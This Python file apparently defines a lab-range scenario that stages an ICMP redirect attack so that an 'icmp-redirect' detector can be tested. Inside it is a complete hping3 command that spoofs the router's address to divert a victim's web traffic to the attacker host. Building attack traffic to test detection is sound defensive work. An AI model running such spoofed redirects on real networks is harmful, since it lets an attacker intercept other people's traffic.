"""hping3 forges redirects of the router."""

from lab.range import Range
from lab.scenario import Scenario


def run(net: Range) -> None:
    attacker, router, www = net.inside("attacker"), net.router(), net.web(net.outside("www"))
    victim = net.inside("pc3")
    net.everyday()
    net.loop(victim, f"curl -s -m 3 -o /dev/null http://{www.ip}/", 1.1)
    net.quiet(2)
    with net.attack(
        "icmp-redirect", by=attacker, victims=[victim], frames="icmp[0] == 5", also=["ip-spoofing"]
    ):
        net.tool(
            attacker,
            *f"hping3 -q --icmp --icmptype 5 --icmpcode 1 -a {router.ip} --icmp-gw {attacker.ip}".split(),
            *f"--icmp-ipsrc {victim.ip} --icmp-ipdst {www.ip} --icmp-ipproto 6 -i 1 -c 8 {victim.ip}".split(),
            seconds=15,
        )
    net.quiet(3)


SCENARIO = Scenario(
    name="icmp-redirect-hping3",
    about="hping3 tells a client, in the router's name, to send what is for a web server to the attacker.",
    detectors=("icmp-redirect",),
    tools={"hping3": "hping3"},
    run=run,
)
